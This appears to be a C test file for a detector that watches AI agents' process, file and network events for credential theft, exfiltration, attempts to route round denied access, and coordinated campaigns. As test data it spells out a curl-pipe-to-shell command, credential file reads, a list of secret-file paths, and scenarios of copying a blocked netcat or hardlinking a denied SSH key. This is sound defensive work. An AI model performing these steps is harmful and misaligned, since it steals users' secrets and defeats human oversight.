// SPDX-License-Identifier: Apache-2.0
/*
 * Detector tests: the input scanner (real agentwatch lines, escapes, every kind of malformed
 * line), classification, the sketches, the derived features, each stage-1 detector and the
 * campaign detector on small synthetic streams, state save and load, and the findings validated
 * against the OCSF 1.8.0 Detection Finding (2004) schema.
 */
#include <errno.h>
#include <fcntl.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <cmocka.h>
#include <json-c/json.h>

#include "detect.h"
#include "detect_features.h"
#include "detect_run.h"
#include "detect_sketch.h"

/* The validator is built into this test: the Makefile compiles each tests/unit/test_*.c alone. */
#include "ocsf_schema.c"

static struct ocsf_schema schema;
static bool have_schema;

/* A line exactly as `agentwatch exec` wrote it (one exec, recorded on the project's VM). */
static const char real_exec[] =
	"{\"activity_id\":1,\"activity_name\":\"Launch\",\"category_uid\":1,\"category_name\":"
	"\"System Activity\",\"class_uid\":1007,\"class_name\":\"Process Activity\",\"type_uid\":"
	"100701,\"type_name\":\"Process Activity: Launch\",\"severity_id\":1,\"severity\":"
	"\"Informational\",\"action_id\":1,\"action\":\"Allowed\",\"disposition_id\":1,"
	"\"disposition\":\"Allowed\",\"time\":1795781863981,\"metadata\":{\"version\":\"1.8.0\","
	"\"product\":{\"name\":\"agentwatch\",\"vendor_name\":\"agentwatch\",\"version\":\"0.1.0\"}"
	","
	"\"profiles\":[\"host\",\"security_control\"],\"uid\":\"1795781864067797148\"},\"device\":"
	"{\"type_id\":0,\"hostname\":\"vm\",\"uid\":\"3d1219c7c4c5404aaa1f6d2a48adfda4\","
	"\"boot_uid\":\"b60a4ab6-82ca-4715-b722-5fc9d142858b\",\"os\":{\"name\":\"Linux\","
	"\"type_id\":200,\"kernel_release\":\"6.18.44-fc-v657\"}},\"status_id\":1,\"status\":"
	"\"Success\",\"actor\":{\"process\":{\"pid\":3822}},\"process\":{\"pid\":3824,\"uid\":"
	"\"5550590214016752\",\"name\":\"sh\",\"cmd_line\":\"sh -c 'cat /etc/hostname; curl -s "
	"http://127.0.0.1:1 || true'\",\"file\":{\"type_id\":1,\"name\":\"dash\",\"path\":"
	"\"/usr/bin/dash\",\"parent_folder\":\"/usr/bin\",\"uid\":\"254:0:247230\"},\"user\":"
	"{\"uid\":\"0\"},\"created_time\":1795781863981,\"working_directory\":\"/work/main\","
	"\"parent_process\":{\"pid\":3822}},\"launch_type_id\":3,\"launch_type\":\"Exec\","
	"\"unmapped\":{\"enforcement\":\"audit\",\"cgroup_id\":5839,\"ai_agent\":{\"uid\":"
	"\"c2eaae8a-de85-4194-9291-e5c8175fdd88\",\"instance_uid\":"
	"\"cfd17d6b-f09b-459e-957f-16129c78ed7b\",\"name\":\"sh\"}}}";

static char scratch[1 << 16];

static bool str_is(const struct detect_str *s, const char *want)
{
	return s->p && s->len == strlen(want) && !memcmp(s->p, want, s->len);
}

/* --- synthetic events ---------------------------------------------------------------------- */

#define T0  1790000000000ULL
#define MIN (60 * 1000ULL)

static uint64_t seq;

static int line_event(char *buf, size_t size, uint64_t t, const char *agent, const char *sess,
		      const char *body, bool denied, const char *rule)
{
	return snprintf(buf, size,
			"{\"class_uid\":%s,\"time\":%llu,\"action_id\":%d,\"disposition_id\":%d,"
			"\"metadata\":{\"uid\":\"ev%llu\"},%s,\"unmapped\":{\"ai_agent\":{\"uid\":"
			"\"%s\",\"instance_uid\":\"%s\",\"name\":\"coder\"}%s%s%s}}",
			body[0] == 'E'	 ? "1007"
			: body[0] == 'F' ? "1001"
					 : "4001",
			(unsigned long long)t, denied ? 2 : 1, denied ? 2 : 1,
			(unsigned long long)++seq, body + 1, agent, sess,
			rule ? ",\"rule\":\"" : "", rule ? rule : "", rule ? "\"" : "");
}

struct collect {
	int n;
	struct detect_finding f[64];
	int n_obs;
	struct detect_stage2 *s2; /* forward observations here when set */
	struct detect_stats *st;
};

static int collect_finding(void *ctx, const struct detect_finding *f)
{
	struct collect *c = ctx;

	if (c->n < 64)
		c->f[c->n++] = *f;
	return 0;
}

static int collect_obs(void *ctx, const struct detect_obs *o);

static const struct detect_sink *sink_of(struct collect *c)
{
	static struct detect_sink s;

	s = (struct detect_sink){.ctx = c, .finding = collect_finding, .obs = collect_obs};
	return &s;
}

static int collect_obs(void *ctx, const struct detect_obs *o)
{
	struct collect *c = ctx;
	struct detect_sink s2 = {.ctx = c, .finding = collect_finding};

	c->n_obs++;
	return c->s2 ? detect_stage2__obs(c->s2, o, &s2, c->st) : 0;
}

/* Feed one synthetic event through parse, classify and stage 1. */
static void feed(struct detect_stage1 *s1, struct collect *c, struct detect_stats *st, uint64_t t,
		 const char *agent, const char *sess, const char *body, bool denied,
		 const char *rule)
{
	char line[2048];
	struct detect_event ev;
	int n = line_event(line, sizeof(line), t, agent, sess, body, denied, rule);

	assert_true(n > 0 && n < (int)sizeof(line));
	assert_int_equal(detect_input__parse(line, (size_t)n, &ev, scratch, sizeof(scratch)), 0);
	assert_int_equal(detect_event__classify(&ev), 0);
	assert_int_equal(detect_stage1__event(s1, &ev, sink_of(c), st), 0);
}

#define EXEC(path) \
	"E\"activity_id\":1,\"launch_type_id\":3,\"process\":{\"file\":{\"path\":\"" path "\"}}"
#define EXEC_UID(path, uid)                                                               \
	"E\"activity_id\":1,\"launch_type_id\":3,\"process\":{\"file\":{\"path\":\"" path \
	"\",\"uid\":\"" uid "\"}}"
#define OPEN(path, uid, mask)                                                                    \
	"F\"activity_id\":14,\"access_mask\":" #mask ",\"file\":{\"path\":\"" path "\",\"uid\":" \
	"\"" uid "\"}"
#define CONNECT(ip, port) \
	"N\"activity_id\":1,\"dst_endpoint\":{\"ip\":\"" ip "\",\"port\":" #port "}"

static int count_kind(const struct collect *c, enum detect_kind k)
{
	int i, n = 0;

	for (i = 0; i < c->n; i++)
		n += c->f[i].kind == k;
	return n;
}

static void small_config(struct detect_config *cfg)
{
	detect_config__defaults(cfg);
	cfg->kind_warmup_ms = 10 * MIN;
	cfg->campaign_warmup_ms = 10 * MIN;
}

/* A kind's baseline: agent "a0" runs the usual things during warm-up. */
static void warm_up(struct detect_stage1 *s1, struct collect *c, struct detect_stats *st)
{
	uint64_t t;

	for (t = T0; t < T0 + 11 * MIN; t += 30000) {
		feed(s1, c, st, t, "a0", "s0", EXEC("/usr/bin/git"), false, NULL);
		feed(s1, c, st, t + 1, "a0", "s0", OPEN("/home/u/src/x.py", "1:1", 0), false, NULL);
		feed(s1, c, st, t + 2, "a0", "s0", CONNECT("140.82.112.3", 443), false, NULL);
	}
}

/* --- input --------------------------------------------------------------------------------- */

static void test_parse_real_event(void **state)
{
	struct detect_event ev;

	assert_int_equal(detect_input__parse(real_exec, strlen(real_exec), &ev, scratch,
					     sizeof(scratch)),
			 0);
	assert_int_equal(ev.class_uid, 1007);
	assert_int_equal(ev.activity_id, 1);
	assert_int_equal(ev.launch_type_id, 3);
	assert_true(ev.time_ms == 1795781863981ULL);
	assert_true(str_is(&ev.s[DETECT_F_EVENT_UID], "1795781864067797148"));
	assert_true(str_is(&ev.s[DETECT_F_EXE_PATH], "/usr/bin/dash"));
	assert_true(str_is(&ev.s[DETECT_F_EXE_UID], "254:0:247230"));
	assert_true(str_is(&ev.s[DETECT_F_AGENT_UID], "c2eaae8a-de85-4194-9291-e5c8175fdd88"));
	assert_true(str_is(&ev.s[DETECT_F_SESSION], "cfd17d6b-f09b-459e-957f-16129c78ed7b"));
	assert_true(str_is(&ev.s[DETECT_F_AGENT_NAME], "sh"));
	assert_true(str_is(&ev.s[DETECT_F_CMD_LINE], "sh -c 'cat /etc/hostname; curl -s "
						     "http://127.0.0.1:1 || true'"));
	/* process.pid or parent_process are not wanted; device.uid must not leak into uid. */
	assert_int_equal(detect_event__classify(&ev), 0);
	assert_int_equal(ev.type, DETECT_EV_EXEC);
	assert_false(ev.denied);
}

static void test_parse_escapes(void **state)
{
	static const char line[] = "{\"class_uid\":1001,\"activity_id\":14,\"time\":5,\"metadata\":"
				   "{\"uid\":\"e\\\"1\"},"
				   "\"file\":{\"path\":\"/tmp/caf\\u00e9 \\ud83d\\ude00\\\\x\\n\"},"
				   "\"unmapped\":{\"ai_agent\":{\"uid\":\"a\"},\"access\":["
				   "\"write\",\"create\"]}}";
	struct detect_event ev;

	assert_int_equal(detect_input__parse(line, strlen(line), &ev, scratch, sizeof(scratch)), 0);
	assert_true(str_is(&ev.s[DETECT_F_EVENT_UID], "e\"1"));
	assert_true(str_is(&ev.s[DETECT_F_FILE_PATH], "/tmp/caf\xc3\xa9 \xf0\x9f\x98\x80\\x\n"));
	assert_int_equal(detect_event__classify(&ev), 0);
	assert_int_equal(ev.access, DETECT_ACC_WRITE | DETECT_ACC_CREATE);
}

static void test_parse_malformed(void **state)
{
	static const char *const bad[] = {
		"",
		"   ",
		"[1,2]",
		"\"str\"",
		"{",
		"{\"a\":}",
		"{\"a\" 1}",
		"{\"a\":1,}",
		"{\"a\":[1,]}",
		"{\"a\":01}",
		"{\"a\":1.}",
		"{\"a\":1e}",
		"{\"a\":-}",
		"{\"a\":tru}",
		"{\"a\":nul}",
		"{\"a\":\"\\x\"}",
		"{\"a\":\"\\u12\"}",
		"{\"a\":\"\\ud800\"}",
		"{\"a\":\"\\udc00\"}",
		"{\"a\":\"raw\ttab\"}",
		"{\"a\":1} trailing",
		"{\"a\":1}{\"b\":2}",
		"{a:1}",
	};
	struct detect_event ev;
	char deep[300];
	size_t i, n;

	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
		assert_int_not_equal(detect_input__parse(bad[i], strlen(bad[i]), &ev, scratch,
							 sizeof(scratch)),
				     0);
	/* Every strict prefix of a real line is malformed, and no prefix crashes. */
	n = strlen(real_exec);
	for (i = 0; i < n; i++)
		assert_int_not_equal(
			detect_input__parse(real_exec, i, &ev, scratch, sizeof(scratch)), 0);
	/* Nesting is bounded. */
	memset(deep, '[', sizeof(deep));
	memcpy(deep, "{\"a\":", 5);
	assert_int_equal(detect_input__parse(deep, sizeof(deep), &ev, scratch, sizeof(scratch)),
			 -E2BIG);
	/* Escapes do not overrun a small scratch buffer. */
	assert_int_equal(detect_input__parse("{\"file\":{\"path\":\"\\u00e9\\u00e9\"}}", 30, &ev,
					     scratch, 2),
			 -E2BIG);
}

static void test_classify(void **state)
{
	static const struct {
		const char *line;
		int want;
		enum detect_ev_type type;
	} cases[] = {
		{"{\"class_uid\":2004,\"time\":1}", -EPROTONOSUPPORT, DETECT_EV_IGNORED},
		{"{\"time\":1}", -ENODATA, DETECT_EV_IGNORED},
		/* exec without its path */
		{"{\"class_uid\":1007,\"activity_id\":1,\"time\":1,\"metadata\":{\"uid\":\"e\"},"
		 "\"unmapped\":{\"ai_agent\":{\"uid\":\"a\"}}}",
		 -ENODATA, DETECT_EV_IGNORED},
		/* no agent */
		{"{\"class_uid\":1001,\"activity_id\":14,\"time\":1,\"metadata\":{\"uid\":\"e\"},"
		 "\"file\":{\"path\":\"/x\"}}",
		 -ENODATA, DETECT_EV_IGNORED},
		/* fork, exit and syscalls are known and ignored */
		{"{\"class_uid\":1007,\"activity_id\":1,\"launch_type_id\":2,\"time\":1,"
		 "\"metadata\":{\"uid\":\"e\"},\"unmapped\":{\"ai_agent\":{\"uid\":\"a\"}}}",
		 0, DETECT_EV_IGNORED},
		{"{\"class_uid\":1003,\"activity_id\":4,\"time\":1}", 0, DETECT_EV_IGNORED},
		/* inbound accept is not egress */
		{"{\"class_uid\":4001,\"activity_id\":1,\"time\":1,\"metadata\":{\"uid\":\"e\"},"
		 "\"connection_info\":{\"direction_id\":1},\"dst_endpoint\":{\"ip\":\"1.2.3.4\","
		 "\"port\":1},\"unmapped\":{\"ai_agent\":{\"uid\":\"a\"}}}",
		 0, DETECT_EV_IGNORED},
		{"{\"class_uid\":4001,\"activity_id\":1,\"time\":1,\"metadata\":{\"uid\":\"e\"},"
		 "\"dst_endpoint\":{\"ip\":\"1.2.3.4\",\"port\":1},\"disposition_id\":2,"
		 "\"unmapped\":{\"ai_agent\":{\"uid\":\"a\"}}}",
		 0, DETECT_EV_NET},
	};
	struct detect_event ev;
	size_t i;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		assert_int_equal(detect_input__parse(cases[i].line, strlen(cases[i].line), &ev,
						     scratch, sizeof(scratch)),
				 0);
		assert_int_equal(detect_event__classify(&ev), cases[i].want);
		assert_int_equal(ev.type, cases[i].type);
	}
	assert_true(ev.denied);
}

/* The verb on a file of mixed input: counted, skipped, never fatal. */
static void test_verb_counts_and_skips(void **state)
{
	char in[] = "/tmp/aw-detect-in-XXXXXX", err[] = "/tmp/aw-detect-err-XXXXXX";
	char *argv[] = {"detect", "--input", in, "--stats", "--no-stdout", NULL};
	char buf[4096];
	int fd, efd, saved, rc;
	FILE *f;
	ssize_t n;

	fd = mkstemp(in);
	efd = mkstemp(err);
	assert_true(fd >= 0 && efd >= 0);
	f = fdopen(fd, "w");
	fprintf(f, "%s\n", real_exec);
	fprintf(f, "not json\n{\"class_uid\":2004,\"time\":1}\n{\"class_uid\":1001}\n");
	fprintf(f,
		"{\"class_uid\":1007,\"activity_id\":2,\"time\":1,\"metadata\":{\"uid\":\"x\"},"
		"\"unmapped\":{\"ai_agent\":{\"uid\":\"a\"}}}\n\n%s\n",
		real_exec);
	fclose(f);
	saved = dup(2);
	dup2(efd, 2);
	optind = 0;
	rc = do_detect(5, argv);
	fflush(stderr);
	dup2(saved, 2);
	close(saved);
	assert_int_equal(rc, 0);
	n = pread(efd, buf, sizeof(buf) - 1, 0);
	assert_true(n > 0);
	buf[n] = '\0';
	assert_non_null(strstr(buf, "\"lines\":6,\"events\":2,\"ignored\":1,\"malformed\":1,"
				    "\"unknown_class\":1,\"missing_field\":1"));
	close(efd);
	unlink(in);
	unlink(err);
}

/* --- sketches and features ----------------------------------------------------------------- */

static void test_cms(void **state)
{
	struct cms c;
	uint64_t i;
	uint32_t over = 0;

	assert_int_equal(cms__init(&c, 3), -EINVAL);
	assert_int_equal(cms__init(&c, 1 << 12), 0);
	for (i = 0; i < 20000; i++)
		cms__add(&c, detect_mix64(i % 5000));
	for (i = 0; i < 5000; i++) {
		uint32_t v = cms__get(&c, detect_mix64(i));

		assert_true(v >= 4); /* never under */
		over += v - 4;
	}
	assert_true(over / 5000.0 < 1.0); /* conservative update keeps the mean error small */
	assert_int_equal(cms__get(&c, detect_mix64(999999)) < 4, true);
	cms__decay(&c);
	assert_true(cms__get(&c, detect_mix64(7)) >= 2);
	cms__free(&c);
}

static void test_hll(void **state)
{
	struct hll h, h2;
	uint64_t i;
	double n;

	memset(&h, 0, sizeof(h));
	memset(&h2, 0, sizeof(h2));
	for (i = 0; i < 5; i++)
		hll__add(&h, i + 1);
	assert_true(hll__count(&h) > 4.5 && hll__count(&h) < 5.5);
	for (i = 0; i < 100000; i++)
		hll__add(i < 50000 ? &h : &h2, i * 7919 + 1);
	hll__merge(&h, &h2);
	n = hll__count(&h);
	assert_true(n > 95000 && n < 105000);
	assert_true(detect_ln(1.0) > -1e-12 && detect_ln(1.0) < 1e-12);
	assert_true(detect_ln(10.0) > 2.302585 && detect_ln(10.0) < 2.302586);
	assert_true(detect_sqrt(2.0) > 1.414213 && detect_sqrt(2.0) < 1.414214);
}

static void test_features(void **state)
{
	static const struct {
		const char *path;
		enum detect_path_class c;
	} classes[] = {
		{"/home/u/.ssh/id_ed25519", DETECT_PC_SSH_KEY},
		{"/home/u/.ssh/id_ed25519.pub", DETECT_PC_NONE},
		{"/root/.aws/credentials", DETECT_PC_CLOUD_CRED},
		{"/var/run/secrets/kubernetes.io/serviceaccount/token", DETECT_PC_CLOUD_CRED},
		{"/home/u/src/app/.env", DETECT_PC_ENV_FILE},
		{"/home/u/src/app/.env.production", DETECT_PC_ENV_FILE},
		{"/home/u/src/app/.envrc", DETECT_PC_NONE},
		{"/etc/shadow", DETECT_PC_SHADOW},
		{"/home/u/.mozilla/firefox/x.default/cookies.sqlite", DETECT_PC_BROWSER},
		{"/home/u/.git-credentials", DETECT_PC_TOKEN},
		{"/home/u/.gnupg/private-keys-v1.d/k", DETECT_PC_GPG},
		{"/etc/passwd", DETECT_PC_NONE},
		{"/home/u/src/ssh/id_rsa.go", DETECT_PC_NONE},
	};
	char out[64];
	size_t i;

	for (i = 0; i < sizeof(classes) / sizeof(classes[0]); i++)
		assert_int_equal(detect_path__class(classes[i].path, strlen(classes[i].path)),
				 classes[i].c);
	assert_int_equal(detect_path__fold("/home/dev7/.npmrc", 17, out, sizeof(out)), 8);
	assert_string_equal(out, "~/.npmrc");
	detect_path__fold("/root/x", 7, out, sizeof(out));
	assert_string_equal(out, "~/x");
	detect_path__fold("/usr/bin/tar", 12, out, 5);
	assert_string_equal(out, "/usr");
	detect_cmd__shape("curl  -s http://203.0.113.7:8443/x | sh", 39, out, sizeof(out));
	assert_string_equal(out, "curl -s http://N.N.N.N:N/x | sh");
	detect_cmd__shape("cat /home/bob/.aws/credentials a1b2c3d4e5f6a7b8c9d0", 51, out,
			  sizeof(out));
	assert_string_equal(out, "cat ~/.aws/credentials H");
	assert_true(detect_path__is_archiver("/usr/bin/tar", 12));
	assert_true(detect_path__is_archiver("/usr/bin/7z", 11));
	assert_false(detect_path__is_archiver("/usr/bin/target", 15));
	assert_true(detect_path__is_writable_dir("/dev/shm/x", 10));
	assert_true(detect_path__is_writable_dir("/home/u/.cache/x", 16));
	assert_false(detect_path__is_writable_dir("/home/u/src/x", 13));
	assert_true(detect_path__is_persistence("/home/u/.bashrc", 15));
	assert_true(detect_path__is_persistence("/etc/cron.d/x", 13));
	assert_true(detect_ip__is_local("127.0.0.1", 9));
	assert_false(detect_ip__is_local("10.0.0.1", 8));
}

/* --- stage 1 ------------------------------------------------------------------------------- */

static void test_novelty(void **state)
{
	struct detect_config cfg;
	struct detect_stats st = {0};
	struct collect c = {0};
	struct detect_stage1 *s1;

	small_config(&cfg);
	s1 = detect_stage1__new(&cfg);
	warm_up(s1, &c, &st);
	assert_int_equal(c.n, 0); /* warm-up is silent */
	feed(s1, &c, &st, T0 + 12 * MIN, "a1", "s1", EXEC("/usr/bin/git"), false, NULL);
	assert_int_equal(c.n, 0); /* usual for the kind, though new for a1 */
	feed(s1, &c, &st, T0 + 12 * MIN, "a1", "s1", EXEC("/usr/bin/nmap"), false, NULL);
	feed(s1, &c, &st, T0 + 12 * MIN, "a1", "s1", CONNECT("198.51.100.9", 8443), false, NULL);
	feed(s1, &c, &st, T0 + 12 * MIN, "a1", "s1", OPEN("/home/a1/.ssh/id_rsa", "1:9", 0), false,
	     NULL);
	assert_int_equal(count_kind(&c, DETECT_K_NOVEL_BINARY), 1);
	assert_int_equal(count_kind(&c, DETECT_K_NOVEL_EGRESS), 1);
	assert_int_equal(count_kind(&c, DETECT_K_NOVEL_SENSITIVE), 1);
	/* A second agent doing the same is no longer novel: that is stage 2's business. */
	feed(s1, &c, &st, T0 + 13 * MIN, "a2", "s2", EXEC("/usr/bin/nmap"), false, NULL);
	assert_int_equal(count_kind(&c, DETECT_K_NOVEL_BINARY), 1);
	assert_string_equal(c.f[0].agents[0].uid, "a1");
	assert_string_equal(c.f[0].agents[0].session, "s1");
	assert_true(c.f[0].n_evidence == 1 && !strncmp(c.f[0].evidence[0], "ev", 2));
	detect_stage1__free(s1);
}

static void test_seq_exfil(void **state)
{
	struct detect_config cfg;
	struct detect_stats st = {0};
	struct collect c = {0};
	struct detect_stage1 *s1;
	uint64_t t = T0 + 20 * MIN;

	small_config(&cfg);
	s1 = detect_stage1__new(&cfg);
	warm_up(s1, &c, &st);
	/* Credentials, then a known destination: nothing; then a new one: S1. */
	feed(s1, &c, &st, t, "a1", "s1", OPEN("/home/a1/.aws/credentials", "1:5", 0), false, NULL);
	feed(s1, &c, &st, t + 1000, "a1", "s1", CONNECT("140.82.112.3", 443), false, NULL);
	assert_int_equal(count_kind(&c, DETECT_K_SEQ_EXFIL), 0);
	feed(s1, &c, &st, t + 30000, "a1", "s1", CONNECT("203.0.113.50", 443), false, NULL);
	assert_int_equal(count_kind(&c, DETECT_K_SEQ_EXFIL), 1);
	/* Too late in another session: not a sequence. */
	feed(s1, &c, &st, t, "a3", "s3", OPEN("/home/a3/.aws/credentials", "1:6", 0), false, NULL);
	feed(s1, &c, &st, t + cfg.seq_exfil_ms + 1, "a3", "s3", CONNECT("203.0.113.51", 443), false,
	     NULL);
	assert_int_equal(count_kind(&c, DETECT_K_SEQ_EXFIL), 1);
	detect_stage1__free(s1);
}

static void test_seq_archive(void **state)
{
	struct detect_config cfg;
	struct detect_stats st = {0};
	struct collect c = {0};
	struct detect_stage1 *s1;
	uint64_t t = T0 + 20 * MIN;
	int i;

	small_config(&cfg);
	s1 = detect_stage1__new(&cfg);
	warm_up(s1, &c, &st);
	feed(s1, &c, &st, t, "a1", "s1", EXEC("/usr/bin/tar"), false, NULL);
	for (i = 0; i < 30; i++)
		feed(s1, &c, &st, t + 100 + (uint64_t)i * 10, "a1", "s1",
		     OPEN("/home/a1/src/f.py", "1:7", 0), false, NULL);
	feed(s1, &c, &st, t + 60000, "a1", "s1", CONNECT("203.0.113.60", 8080), false, NULL);
	assert_int_equal(count_kind(&c, DETECT_K_SEQ_ARCHIVE), 1);
	/* tar without a burst of reads, then egress: nothing. */
	feed(s1, &c, &st, t, "a2", "s2", EXEC("/usr/bin/tar"), false, NULL);
	feed(s1, &c, &st, t + 60000, "a2", "s2", CONNECT("203.0.113.61", 8080), false, NULL);
	assert_int_equal(count_kind(&c, DETECT_K_SEQ_ARCHIVE), 1);
	detect_stage1__free(s1);
}

static void test_seq_bypass(void **state)
{
	struct detect_config cfg;
	struct detect_stats st = {0};
	struct collect c = {0};
	struct detect_stage1 *s1;
	uint64_t t = T0 + 20 * MIN;

	small_config(&cfg);
	s1 = detect_stage1__new(&cfg);
	warm_up(s1, &c, &st);
	/* Denied key, then the same inode through a hardlink. */
	feed(s1, &c, &st, t, "a1", "s1", OPEN("/home/a1/.ssh/id_rsa", "254:0:77", 0), true,
	     "ssh-keys");
	feed(s1, &c, &st, t + 5000, "a1", "s1", OPEN("/tmp/k", "254:0:77", 0), false, NULL);
	assert_int_equal(count_kind(&c, DETECT_K_SEQ_BYPASS), 1);
	/* Denied exec, the binary copied, the copy executed. */
	feed(s1, &c, &st, t, "a2", "s2", EXEC_UID("/usr/bin/nc", "254:0:5"), true, "no-netcat");
	feed(s1, &c, &st, t + 1000, "a2", "s2", OPEN("/usr/bin/nc", "254:0:5", 0), false, NULL);
	feed(s1, &c, &st, t + 1001, "a2", "s2", OPEN("/tmp/.x", "254:0:6", 577), false, NULL);
	feed(s1, &c, &st, t + 2000, "a2", "s2", EXEC_UID("/tmp/.x", "254:0:6"), false, NULL);
	assert_int_equal(count_kind(&c, DETECT_K_SEQ_BYPASS), 2);
	/* The same denied path retried is not an alternate path. */
	feed(s1, &c, &st, t, "a3", "s3", OPEN("/etc/shadow", "254:0:9", 0), true, "shadow");
	feed(s1, &c, &st, t + 10, "a3", "s3", OPEN("/etc/shadow", "254:0:9", 0), true, "shadow");
	assert_int_equal(count_kind(&c, DETECT_K_SEQ_BYPASS), 2);
	detect_stage1__free(s1);
}

static void test_rate(void **state)
{
	struct detect_config cfg;
	struct detect_stats st = {0};
	struct collect c = {0};
	struct detect_stage1 *s1;
	uint64_t t;
	int b, i;

	small_config(&cfg);
	cfg.rate_warmup = 10;
	s1 = detect_stage1__new(&cfg);
	/* 30 active minutes of 5 connects each, then 300 in one minute. */
	for (b = 0; b < 30; b++)
		for (i = 0; i < 5; i++)
			feed(s1, &c, &st, T0 + (uint64_t)b * MIN + (uint64_t)i * 1000, "a1", "s1",
			     CONNECT("10.0.0.1", 22), false, NULL);
	assert_int_equal(count_kind(&c, DETECT_K_RATE), 0);
	t = T0 + 31 * MIN;
	for (i = 0; i < 300; i++)
		feed(s1, &c, &st, t + (uint64_t)i * 100, "a1", "s1", CONNECT("10.0.0.1", 22), false,
		     NULL);
	assert_int_equal(count_kind(&c, DETECT_K_RATE), 1); /* once per bucket */
	assert_string_equal(c.f[0].feature, "connects");
	detect_stage1__free(s1);
}

static void test_agents_bounded(void **state)
{
	struct detect_config cfg;
	struct detect_stats st = {0};
	struct collect c = {0};
	struct detect_stage1 *s1;
	char agent[32];
	int i;

	small_config(&cfg);
	cfg.max_agents = 100;
	s1 = detect_stage1__new(&cfg);
	for (i = 0; i < 1000; i++) {
		snprintf(agent, sizeof(agent), "agent-%d", i);
		feed(s1, &c, &st, T0 + (uint64_t)i, agent, "s", EXEC("/usr/bin/git"), false, NULL);
	}
	assert_true(detect_stage1__agents(s1) <= 100);
	assert_true(st.agents_evicted >= 900);
	detect_stage1__free(s1);
}

/* --- stage 2 ------------------------------------------------------------------------------- */

static void obs(struct detect_stage2 *s2, struct collect *c, struct detect_stats *st, uint64_t t,
		const char *feature, int agent, uint8_t ctx)
{
	struct detect_obs o;
	struct detect_sink out = {.ctx = c, .finding = collect_finding};

	memset(&o, 0, sizeof(o));
	o.feature_hash = detect_hash(feature, strlen(feature), 1000);
	o.agent_hash = detect_mix64((uint64_t)agent + 1);
	o.time_ms = t;
	o.type = DETECT_FT_DST;
	o.ctx = ctx;
	snprintf(o.feature, sizeof(o.feature), "%s", feature);
	snprintf(o.agent.uid, sizeof(o.agent.uid), "agent-%d", agent);
	snprintf(o.agent.session, sizeof(o.agent.session), "s-%d", agent);
	snprintf(o.event_uid, sizeof(o.event_uid), "ev-%d", agent);
	assert_int_equal(detect_stage2__obs(s2, &o, &out, st), 0);
}

static void test_campaign(void **state)
{
	struct detect_config cfg;
	struct detect_stats st = {0};
	struct collect c = {0};
	struct detect_stage2 *s2;
	uint64_t t = T0 + 20 * MIN;
	int i;

	small_config(&cfg);
	s2 = detect_stage2__new(&cfg);
	/* History: a common destination everyone uses during warm-up. */
	for (i = 0; i < 40; i++)
		obs(s2, &c, &st, T0 + (uint64_t)i * 1000, "140.82.112.3:443", i, 0);
	for (i = 0; i < 40; i++)
		obs(s2, &c, &st, T0 + 11 * MIN + (uint64_t)i * 1000, "140.82.112.3:443", i,
		    DETECT_CTX_NOVEL);
	assert_int_equal(c.n, 0);
	/* A C2: three agents with context within minutes. */
	obs(s2, &c, &st, t, "192.0.2.7:8443", 1, DETECT_CTX_NOVEL);
	obs(s2, &c, &st, t + MIN, "192.0.2.7:8443", 2, DETECT_CTX_SENSITIVE);
	assert_int_equal(c.n, 0);
	obs(s2, &c, &st, t + 2 * MIN, "192.0.2.7:8443", 2, DETECT_CTX_NOVEL); /* same agent */
	assert_int_equal(c.n, 0);
	obs(s2, &c, &st, t + 3 * MIN, "192.0.2.7:8443", 3, DETECT_CTX_FINDING);
	assert_int_equal(c.n, 1);
	assert_int_equal(c.f[0].kind, DETECT_K_CAMPAIGN);
	assert_int_equal(c.f[0].n_agents, 3);
	assert_int_equal(c.f[0].n_evidence, 3);
	assert_string_equal(c.f[0].feature, "192.0.2.7:8443");
	obs(s2, &c, &st, t + 4 * MIN, "192.0.2.7:8443", 4, DETECT_CTX_NOVEL);
	assert_int_equal(c.n, 1); /* reported once */
	/* Without context: 10 agents in 30 minutes out of 40 active is a rollout: suppressed. */
	for (i = 0; i < 20; i++)
		obs(s2, &c, &st, t + (uint64_t)i * MIN, "198.51.100.20:443", 10 + i, 0);
	assert_int_equal(detect_stage2__flush(s2, NULL, &st), 0);
	if (c.n != 1)
		fprintf(stderr, "%s\n", c.f[c.n - 1].explain);
	assert_int_equal(c.n, 1);
	assert_true(st.rollouts_suppressed >= 1);
	detect_stage2__free(s2);
}

/* --- state --------------------------------------------------------------------------------- */

/* Run a scripted stream; with `restart`, save and load both stages half way. */
static int run_with_restart(bool restart, struct collect *c)
{
	struct detect_config cfg;
	struct detect_stats st = {0};
	struct detect_stage1 *s1;
	struct detect_stage2 *s2;
	uint64_t t = T0 + 20 * MIN;
	char agent[16];
	int i;

	seq = 0; /* the same event uids in every run */
	small_config(&cfg);
	s1 = detect_stage1__new(&cfg);
	s2 = detect_stage2__new(&cfg);
	c->s2 = s2;
	c->st = &st;
	warm_up(s1, c, &st);
	for (i = 0; i < 4; i++) {
		snprintf(agent, sizeof(agent), "v%d", i);
		if (restart && i == 2) {
			char *blob;
			size_t len;

			assert_int_equal(detect_state__blob(s1, s2, &blob, &len), 0);
			detect_stage1__free(s1);
			detect_stage2__free(s2);
			assert_int_equal(detect_state__from_blob(blob, len, &cfg, &s1, &s2), 0);
			assert_non_null(s1);
			assert_non_null(s2);
			free(blob);
			c->s2 = s2;
		}
		feed(s1, c, &st, t + (uint64_t)i * MIN, agent, "s", EXEC("/tmp/.x/drop"), false,
		     NULL);
		feed(s1, c, &st, t + (uint64_t)i * MIN + 1000, agent, "s",
		     CONNECT("192.0.2.99", 4444), false, NULL);
	}
	detect_stage1__free(s1);
	detect_stage2__free(s2);
	return count_kind(c, DETECT_K_CAMPAIGN);
}

static void test_state_roundtrip(void **state)
{
	struct collect a = {0}, b = {0};
	int i;

	assert_true(run_with_restart(false, &a) >= 1);
	assert_int_equal(run_with_restart(true, &b), run_with_restart(false, &(struct collect){0}));
	assert_int_equal(a.n, b.n);
	for (i = 0; i < a.n; i++)
		assert_true(a.f[i].uid == b.f[i].uid);
	/* Not a state blob: refused, never half-loaded. */
	{
		struct detect_config cfg;
		struct detect_stage1 *s1;
		struct detect_stage2 *s2;

		small_config(&cfg);
		assert_int_equal(detect_state__from_blob("AWDSxxxxxxxxxxxxxxxx", 20, &cfg, &s1,
							 &s2),
				 -EINVAL);
	}
}

/* --- findings against the 2004 schema ------------------------------------------------------ */

